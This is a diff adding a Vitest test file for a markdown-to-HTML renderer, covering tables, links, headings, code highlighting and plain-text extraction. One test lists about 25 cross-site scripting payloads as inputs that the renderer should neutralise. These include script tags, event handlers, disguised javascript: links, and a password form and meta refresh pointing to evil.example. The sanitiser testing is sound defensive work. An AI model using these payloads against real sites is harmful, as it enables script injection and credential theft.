@@ -1,0 +1,97 @@
+import { describe, expect, it } from 'vitest';
+import { firstSentence, plainText } from './markdown-tree';
+import { renderMarkdown } from './render-markdown';
+
+describe('renderMarkdown', () => {
+  it('renders CommonMark and tables', () => {
+    expect(renderMarkdown('Send `limit` and **wait**.')).toBe('<p>Send <code>limit</code> and <strong>wait</strong>.</p>');
+    expect(renderMarkdown('| a | b |\n| - | -: |\n| 1 | 2 |')).toContain('<td align="right">2</td>');
+  });
+
+  it('keeps links into the site and marks links out of it', () => {
+    const seen: string[] = [];
+    const html = renderMarkdown('[a](/general/x#y) [b](https://a.example) [c](#d)', { onInternalLink: (href) => seen.push(href) });
+    expect(html).toBe('<p><a href="/general/x#y">a</a> <a href="https://a.example" rel="noopener noreferrer">b</a> <a href="#d">c</a></p>');
+    expect(seen).toEqual(['/general/x#y']);
+  });
+
+  it('reports links in tables once', () => {
+    const seen: string[] = [];
+    renderMarkdown('| a |\n| - |\n| [x](/x) |', { onInternalLink: (href) => seen.push(href) });
+    expect(seen).toEqual(['/x']);
+  });
+
+  it('moves headings below the page, with ids', () => {
+    const ids: string[] = [];
+    const html = renderMarkdown('# Base URL\n\n## More', { headingDepth: 3, claimId: (id) => id, onHeading: ({ id, depth }) => ids.push(`${depth} ${id}`) });
+    expect(html).toContain('<h3 id="base-url">Base URL<a class="hash-link" href="#base-url"');
+    expect(ids).toEqual(['3 base-url', '4 more']);
+    expect(renderMarkdown('# Big')).toBe('<p><strong>Big</strong></p>');
+  });
+
+  it('highlights code', () => {
+    expect(renderMarkdown('```json\n{"a": "<b>"}\n```')).toContain('<code class="language-json">{"a": "&lt;b&gt;"}</code>');
+    expect(renderMarkdown('```json\n1\n```', { highlight: (code, language) => `<i>${language} ${code}</i>` })).toContain('<i>json 1</i>');
+  });
+
+  const hostile: readonly (readonly [string, string])[] = [
+    ['a script', 'a <script>alert(1)</script> b'],
+    ['a script as a block', '<script>\nalert(1)\n</script>'],
+    ['a broken script', '<script src=//evil.example'],
+    ['a script that closes early', '<scr<script>ipt>alert(1)</script>'],
+    ['an image with an event', '<img src=x onerror=alert(1)>'],
+    ['an image as a block', '<img\nsrc=x\nonerror=alert(1)>\n'],
+    ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
+    ['a style', '<style>@import "//evil.example"</style><p style="position:fixed">x</p>'],
+    ['a javascript link', '[x](javascript:alert(1))'],
+    ['a javascript link in disguise', '[x](JaVaScRiPt&colon;alert(1))'],
+    ['a javascript link with a tab', '[x](java&#x09;script:alert(1))'],
+    ['a data link', '[x](data:text/html,<script>alert(1)</script>)'],
+    ['a vbscript autolink', '<vbscript:msgbox(1)>'],
+    ['an image from a data address', '![x](data:image/svg+xml;base64,PHN2Zz4=)'],
+    ['an image from elsewhere', '![x](https://evil.example/pixel.gif)'],
+    ['a reference link', '[x][y]\n\n[y]: javascript:alert(1)'],
+    ['a title that breaks out', '[x](https://a.example "\\"onmouseover=alert(1) x=\\"")'],
+    ['a code language that breaks out', '```"><script>alert(1)</script>\nx\n```'],
+    ['a form', '<form action=//evil.example><input name=password></form>'],
+    ['an object', '<object data=//evil.example></object><embed src=//evil.example>'],
+    ['an SVG', '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>'],
+    ['a base', '<base href="//evil.example">'],
+    ['a meta refresh', '<meta http-equiv=refresh content="0;url=//evil.example">'],
+    ['an id that shadows', '<a id=___loader name=___loader>x</a>'],
+    ['a comment that hides', '<!-- <script>alert(1)</script> -->x<!--'],
+  ];
+
+  it.each(hostile)('defuses %s', (_, markdown) => {
+    const html = renderMarkdown(markdown, { headingDepth: 2, claimId: (id) => id });
+    const tags = [...html.matchAll(/<\/?([a-z0-9]+)([^>]*)>/gi)];
+    expect(tags.map((tag) => tag[1]).filter((name) => !/^(p|a|span|code|pre|figure|button|br|em|strong)$/.test(name ?? ''))).toEqual([]);
+    for (const [, , attributes = ''] of tags) {
+      expect(attributes.replace(/"[^"]*"/g, '""')).not.toMatch(/\b(on\w+|style|id|name|srcdoc|src)\s*=/i);
+      expect(attributes).not.toMatch(/(?:href)="(?!https?:|\/|#|mailto:)/i);
+    }
+  });
+
+  it('survives nesting that no reader could follow', () => {
+    expect(renderMarkdown(`${'> '.repeat(3000)}deep`).length).toBeGreaterThan(0);
+    expect(renderMarkdown(`${'['.repeat(5000)}deep`).length).toBeGreaterThan(0);
+    expect(renderMarkdown(`${'*a '.repeat(5000)}deep`).length).toBeGreaterThan(0);
+  });
+
+  it('shows the text of raw HTML', () => {
+    expect(renderMarkdown('<p>Hello <b>you</b></p>')).toBe('<p>Hello you</p>');
+    expect(renderMarkdown('a<br>b <b>c</b>')).toBe('<p>a<br>\nb c</p>');
+  });
+});
+
+describe('plain text', () => {
+  it('has no marks', () => {
+    expect(plainText('Send `limit`, see [Paging](/x).\n\n- one\n- two')).toBe('Send limit, see Paging. one two');
+  });
+
+  it('finds the first sentence', () => {
+    expect(firstSentence('Lists users, e.g. of one company. More.\n\nEven more.')).toBe('Lists users, e.g. of one company.');
+    expect(firstSentence('Version 1.2 of it')).toBe('Version 1.2 of it');
+    expect(firstSentence('')).toBe('');
+  });
+});
